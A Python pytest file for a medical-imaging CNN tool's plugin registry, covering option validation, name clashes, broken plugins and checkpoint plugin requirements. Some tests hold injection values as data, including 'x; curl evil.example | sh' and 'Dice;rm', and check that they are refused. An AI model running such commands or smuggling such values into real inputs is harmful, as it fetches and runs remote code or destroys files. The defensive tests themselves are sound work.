"""The registry with packages that are installed for a test: names, options, refusals."""

from __future__ import annotations

import sys
from collections.abc import Callable, Mapping
from importlib import metadata
from pathlib import Path
from pkgutil import resolve_name
from typing import Any

import pytest

from medcnn.cli import main
from medcnn.cli.help import PLUGGED
from medcnn.cli.plugin_yaml import TABLES
from medcnn.system.errors import CheckpointError, PluginError, UsageError
from medcnn.system.paths import config_folder
from medcnn.system.plugins import GROUPS, require, used
from medcnn.system.registry import Table

Install = Callable[..., None]

CODE = """
from typing import Literal, Optional

def dice(value, *, weight: Optional[float] = 1.0, way: Literal["mean", "sum"] = "mean"):
    return value, weight, way
"""


def own(value: int, *, gamma: float = 2.0) -> float:
    return value * gamma


def table() -> Table[Any]:
    return Table(
        "loss",
        {"focal": own},
        group="losses",
        kind=Callable,  # type: ignore[arg-type]
        function=lambda function: function,
        limits={"weight": (0.0, 1.0)},
        also=lambda: ("auto",),
    )


def test_a_plugin_is_known_by_name_and_imported_when_it_is_chosen(package: Install) -> None:
    package("ours", "1.2", {"losses": ["dice"]}, CODE)
    assert list(table()) == ["focal", "dice"]
    assert "dice" in table()
    assert str(table().origin("dice")) == "ours 1.2"
    assert table().origin("focal") is None
    assert "ours" not in sys.modules
    assert table().bind("dice", {"weight": 3})(1) == (1, 3, "mean")
    assert "ours" in sys.modules


def test_options_of_a_plugin_are_those_of_its_signature(package: Install) -> None:
    package("ours", "1.2", {"losses": ["dice"]}, CODE)
    # limits are those of medcnn's own: a plug-in may mean another thing by the same word
    assert table().completed({"name": "dice", "weight": 7}) == {
        "name": "dice",
        "weight": 7,
        "way": "mean",
    }
    with pytest.raises(UsageError) as raised:
        table().bind("dice", {"wieght": 1, "way": "max"})
    assert "loss dice has no option 'wieght'; did you mean 'weight'?" in str(raised.value)
    assert "way=max should be one of mean, sum." in str(raised.value)
    with pytest.raises(UsageError, match=r"weight=much should be a number\."):
        table().bind("dice", {"weight": "much"})
    with pytest.raises(UsageError, match=r"unknown loss 'dcie'; did you mean 'dice'\?"):
        table().choose("dcie")


def test_a_name_that_two_claim_is_refused_with_both(package: Install) -> None:
    """A plug-in never takes the place of another, nor of medcnn's own."""
    package("ours", "1.2", {"losses": ["dice", "focal", "auto"]}, CODE)
    package("theirs", "0.3", {"losses": ["dice"]}, CODE)
    with pytest.raises(PluginError, match=r"ours 1\.2 and theirs 0\.3|theirs 0\.3 and ours 1\.2"):
        table().choose("dice")
    for name in ("focal", "auto"):
        with pytest.raises(PluginError, match=r"medcnn itself and ours 1\.2 have one"):
            table().choose(name)
    assert not {"ours", "theirs"} & set(sys.modules)


@pytest.mark.parametrize(
    ("code", "reason"),
    [
        ("import nothing_of_that_name", "cannot be imported .*No module named"),
        ("raise SystemExit(3)", "cannot be imported .*SystemExit: 3"),
        ("dice = 3", "should be a Callable, found int"),
        ("def dice(value, *, weight=1.0): ...", "weight has no type"),
        ("def dice(value, *, weight: 'Nothing' = 1.0): ...", "the types of its options"),
    ],
)
def test_a_plugin_that_does_not_work_is_named_with_its_package(
    package: Install, code: str, reason: str
) -> None:
    package("ours", "1.2", {"losses": ["dice"]}, code)
    with pytest.raises(PluginError, match=f"'dice' of ours 1.2.*{reason}"):
        table().choose("dice")


def test_a_name_that_no_command_could_hold_is_refused(package: Install) -> None:
    package("ours", "1.2", {"losses": ["Dice;rm"]}, CODE)
    with pytest.raises(PluginError, match=r"ours 1\.2 names a loss 'Dice;rm'"):
        table().choose("Dice;rm")


def test_an_entry_point_of_another_package_that_cannot_be_read_stops_nothing(
    package: Install, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    pytest.importorskip("importlib_metadata")  # once imported, it checks entry points for everybody
    package("ours", "1.2", {"losses": ["dice"]}, CODE)
    about = tmp_path / "theirs" / "theirs-1.0.dist-info"
    about.mkdir(parents=True)
    (about / "METADATA").write_text("Name: theirs\nVersion: 1.0\n", encoding="utf-8")
    (about / "entry_points.txt").write_text("[other.group]\na = b c d\n", encoding="utf-8")
    monkeypatch.syspath_prepend(about.parent)
    with pytest.raises(ValueError, match="b c d"):
        list(metadata.entry_points())
    assert "dice" in table()


KEPT = {"group": "heads", "name": "gated", "distribution": "Our.Heads", "version": "1.0"}


def test_a_checkpoint_asks_for_its_plugins_by_name_alone(
    package: Install, caplog: pytest.LogCaptureFixture
) -> None:
    with pytest.raises(CheckpointError) as raised:
        require([KEPT, {**KEPT, "name": "other"}], ["heads"], "checkpoint=a")
    assert str(raised.value) == (
        "checkpoint=a needs 'gated' (heads) and 'other' (heads) of Our.Heads 1.0, which is not "
        "installed. If you trust that package: pip install Our.Heads==1.0"
    )
    require([KEPT], ["losses"], "checkpoint=a")  # what is not needed is not asked for
    package("our_heads", "1.1", {"heads": ["gated"]}, CODE)
    require([KEPT], ["heads"], "checkpoint=a")
    assert "of Our.Heads 1.0; our_heads 1.1 is installed." in caplog.text
    assert "our_heads" not in sys.modules
    assert used([("heads", "gated"), ("heads", "linear")]) == (
        {"group": "heads", "name": "gated", "distribution": "our_heads", "version": "1.1"},
    )


def test_another_package_with_the_same_name_does_not_stand_in(package: Install) -> None:
    package("theirs", "1.0", {"heads": ["gated"]}, CODE)
    with pytest.raises(CheckpointError, match=r"not the one of theirs 1\.0"):
        require([KEPT], ["heads"], "checkpoint=a")


@pytest.mark.parametrize(
    "kept",
    [
        {**KEPT, "distribution": "x; curl evil.example | sh"},
        {**KEPT, "distribution": "--requirement=evil.txt"},
        {**KEPT, "version": "1.0 --pre"},
        {**KEPT, "name": "os:system"},
        {**KEPT, "group": "console_scripts"},
        {"group": "heads"},
        "heads",
    ],
)
def test_what_a_checkpoint_says_of_plugins_never_becomes_a_command(
    kept: Mapping[str, str] | str,
) -> None:
    with pytest.raises(ValueError, match="plugins: not a list of group, name"):
        require([kept], ["heads"], "checkpoint=a")


LOSS = """
import torch
from medcnn.training.losses import INDEPENDENT, Loss

def function(logits, targets, counts, *, weight: float, power: int = 1):
    \"\"\"The squared error.\"\"\"
    each = weight * (torch.sigmoid(logits.float()) - targets).abs() ** (2 * power)
    return each.sum(), torch.tensor(each.numel())

squares = Loss(function, INDEPENDENT)
"""


def said(capsys: pytest.CaptureFixture[str], *words: str) -> tuple[int, str]:
    """Exit code and what a command says, in one line."""
    with pytest.raises(SystemExit) as ended:
        main(list(words))
    out, err = capsys.readouterr()
    return int(ended.value.code or 0), " ".join((out + err).split())


def test_a_plugin_needs_no_yaml(package: Install, capsys: pytest.CaptureFixture[str]) -> None:
    package("ours", "1.2", {"losses": ["squares"], "scores": ["rank"]}, LOSS)
    code, text = said(capsys, "train", "loss=squares", "loss.weight=2", "--show-config")
    assert code == 0
    assert "loss: name: squares weight: 2 power: 1" in text
    code, text = said(capsys, "train", "loss=squares", "loss.wieght=2")
    assert (code, "did you mean 'loss.weight'?" in text) == (2, True)
    code, text = said(capsys, "train", "loss=squars")
    assert (code, "unknown loss 'squars'; did you mean 'squares'?" in text) == (2, True)
    code, text = said(capsys, "train", "loss=squares")
    assert (code, "needs the option 'weight'" in text) == (2, True)
    code, text = said(capsys, "train", "trainer.score=rnak")
    assert (code, "unknown trainer.score 'rnak'; did you mean 'rank'?" in text) == (2, True)
    code, text = said(capsys, "list", "losses", "squares")
    assert code == 0
    assert text == (
        "squares The squared error. For binary, multilabel labels. Options: weight=???, power=1. "
        "from ours 1.2"
    )


POOL = """
import torch
from torch import nn

class Quantile(nn.Module):
    def __init__(self, of: float) -> None:
        super().__init__()
        self.of = of

    def forward(self, maps):
        return maps.flatten(2).quantile(self.of, 2)

def mid(channels: int, *, of: float = 0.5) -> nn.Module:
    return Quantile(of)
"""


def test_a_pooling_of_ones_own_is_chosen_as_others_are_with_its_options(
    package: Install, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    package("ours", "1.2", {"poolings": ["mid"]}, POOL)
    code, text = said(capsys, "train", "pooling=mid", "pooling.of=0.3", "--show-config")
    assert code == 0
    assert "pooling: name: mid of: 0.3" in text
    assert "mid" in said(capsys, "train", "--help")[1]
    code, text = said(capsys, "probe", "pooling=mid", "pooling.off=0.3")
    assert (code, "did you mean 'pooling.of'?" in text) == (2, True)
    page = f"output={tmp_path / 'inspect.html'}"
    assert said(capsys, "inspect", "model=resnet18", "pooling=mid", page)[0] == 0


BODY = """
from torch import nn
from medcnn.models.backbones import Backbone

class Mean(nn.Module):
    def __init__(self, channels, width):
        super().__init__()
        self.spread = nn.Conv2d(channels, width, 1)

    def forward(self, images):
        return self.spread(images).mean((2, 3))

def mean_colour(channels: int, *, width: int = 4) -> nn.Module:
    return Mean(channels, width)

means = Backbone(mean_colour, (0.5, 0.5, 0.5), (0.5, 0.5, 0.5))
"""


def test_a_network_of_ones_own_is_chosen_as_others_are_with_its_options(
    package: Install, capsys: pytest.CaptureFixture[str]
) -> None:
    package("ours", "1.2", {"backbones": ["means"]}, BODY)
    options = ("model=means", "model.options.width=6")
    code, text = said(capsys, "train", *options, "--show-config")
    assert code == 0
    assert "backbone: means" in text
    assert "options: width: 6" in text
    assert "means" in said(capsys, "train", "--help")[1]
    assert said(capsys, "train", "model=means", "model.options.widht=6")[0] == 2


# The groups that are chosen inside a setting, not by `group=NAME`.
INSIDE = {"augmentations", "scores", "steps"}


def test_every_group_of_plugins_can_be_chosen() -> None:
    assert {*PLUGGED.values(), *INSIDE} == {*GROUPS}
    tables = {group: resolve_name(place) for group, place in TABLES.items()}
    assert {group: table.group for group, table in tables.items()} == PLUGGED
    assert all((config_folder() / group).is_dir() for group in PLUGGED)


def test_a_recipe_of_ones_own_may_choose_a_plugin(
    package: Install, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    package("ours", "1.2", {"losses": ["squares"]}, LOSS)
    recipe = tmp_path / "conf" / "experiment" / "mine.yaml"
    recipe.parent.mkdir(parents=True)
    recipe.write_text(
        "# @package _global_\ndefaults:\n  - override /loss: squares\nloss:\n  weight: 3\n",
        encoding="utf-8",
    )
    words = ("train", "experiment=mine", "--config-dir", str(tmp_path / "conf"), "--show-config")
    code, text = said(capsys, *words)
    assert code == 0
    assert "loss: name: squares weight: 3 power: 1" in text


def test_a_broken_plugin_is_reported_in_one_line_and_a_traceback_on_demand(
    package: Install, capsys: pytest.CaptureFixture[str]
) -> None:
    package("ours", "1.2", {"losses": ["squares"]}, "import nothing_of_that_name")
    code, text = said(capsys, "train", "loss=squares")
    assert code == 1
    assert "'squares' of ours 1.2 cannot be imported (ModuleNotFoundError: No module" in text
    assert "Traceback" not in text
    assert "Traceback" in said(capsys, "train", "loss=squares", "--debug")[1]
    code, text = said(capsys, "list", "losses", "squares")
    assert (code, "cannot be used: 'squares' of ours 1.2" in text) == (0, True)
    # nobody who does not choose it needs to know
    assert said(capsys, "train", "loss=focal", "--show-config")[0] == 0
